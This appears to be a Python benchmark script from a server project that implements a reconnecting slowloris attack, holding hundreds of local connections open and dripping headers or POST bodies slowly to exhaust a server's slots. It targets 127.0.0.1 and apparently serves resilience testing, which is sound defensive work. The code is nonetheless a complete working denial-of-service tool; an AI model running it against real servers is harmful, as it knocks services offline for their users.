"""A slowloris that reconnects: N sockets that send a request a few bytes at a time, and
open a new socket as soon as the server closes one.

slowhttptest opens its connections once and ends when the server has closed them all
("No open connections left"); a real attacker comes back. This one keeps N connections
open for as long as it runs, whatever the server does to them, so a server that frees
slots by closing slow connections sees them refilled at once.

    python bench/slowloris.py --port 8080 --connections 350 --seconds 30 [--body]

``--body``: a slow POST instead (a whole head with Content-Length, then the body a few
bytes at a time). Prints one line at the end: connections opened, closed by the server.
"""

from __future__ import annotations

import argparse
import errno
import resource
import selectors
import socket
import time

HOST = "127.0.0.1"
# One drip per connection per interval: slowhttptest's -H sends up to 24 bytes every
# 10 s by default; every second keeps more pressure on per-read timeouts.
DRIP_INTERVAL = 1.0
DRIP = b"X-a: b\r\n"
BODY_DRIP = b"x" * 8


def raise_file_limit() -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


class Attack:
    def __init__(self, port: int, connections: int, body: bool) -> None:
        self.port = port
        self.wanted = connections
        self.first = (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
                      if body else b"GET / HTTP/1.1\r\nHost: x\r\n")
        self.drip = BODY_DRIP if body else DRIP
        self.selector = selectors.DefaultSelector()
        self.socks: dict[socket.socket, float] = {}  # -> when it drips next
        self.opened = self.closed_by_server = 0

    def open_one(self) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        try:
            sock.connect((HOST, self.port))
        except BlockingIOError:
            pass
        except OSError:
            sock.close()
            return
        self.selector.register(sock, selectors.EVENT_WRITE, "connecting")
        self.socks[sock] = time.monotonic() + DRIP_INTERVAL
        self.opened += 1

    def drop(self, sock: socket.socket) -> None:
        self.selector.unregister(sock)
        del self.socks[sock]
        sock.close()
        self.closed_by_server += 1

    def run(self, seconds: float) -> None:
        end = time.monotonic() + seconds
        while (now := time.monotonic()) < end:
            # Refill: a bounded number per turn, so the loop still reads and drips.
            for _ in range(min(200, self.wanted - len(self.socks))):
                self.open_one()
            for key, _mask in self.selector.select(0.05):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                if key.data == "connecting":
                    if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                        self.drop(sock)
                        continue
                    try:
                        sock.send(self.first)
                    except OSError:
                        self.drop(sock)
                        continue
                    self.selector.modify(sock, selectors.EVENT_READ, "open")
                    continue
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:  # closed (after a 408 or 503, or to make room)
                    self.drop(sock)
            for sock, due in list(self.socks.items()):
                if due <= now and self.selector.get_key(sock).data == "open":
                    self.socks[sock] = now + DRIP_INTERVAL
                    try:
                        sock.send(self.drip)
                    except OSError as error:
                        if error.errno != errno.EAGAIN:
                            self.drop(sock)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=350)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--body", action="store_true", help="slow POST bodies")
    args = parser.parse_args()
    raise_file_limit()
    attack = Attack(args.port, args.connections, args.body)
    attack.run(args.seconds)
    print(f"opened {attack.opened} connections, {attack.closed_by_server} closed by the "
          f"server", flush=True)


if __name__ == "__main__":
    main()
